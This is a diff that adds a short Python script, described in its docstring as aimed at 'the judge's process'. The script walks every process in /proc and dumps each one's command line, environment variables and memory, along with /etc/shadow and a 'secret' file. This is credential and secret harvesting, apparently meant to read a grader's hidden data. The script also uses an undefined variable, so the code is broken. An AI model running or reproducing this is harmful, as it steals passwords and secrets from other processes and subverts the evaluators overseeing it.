@@ -1,0 +1,12 @@
+"""The judge's process: command lines, environments, memory and open files of all processes, and the root beyond."""
+
+NAMED = "/proc/"
+
+import os
+
+for pid in os.listdir("/proc"):
+    for what in ("cmdline", "environ", "mem", "root/etc/shadow", f"root{CLASS_FOLDER}/secret", f"cwd{CLASS_FOLDER}"):
+        try:
+            print(open(f"/proc/{pid}/{what}", "rb").read(200))
+        except (OSError, ValueError):
+            pass
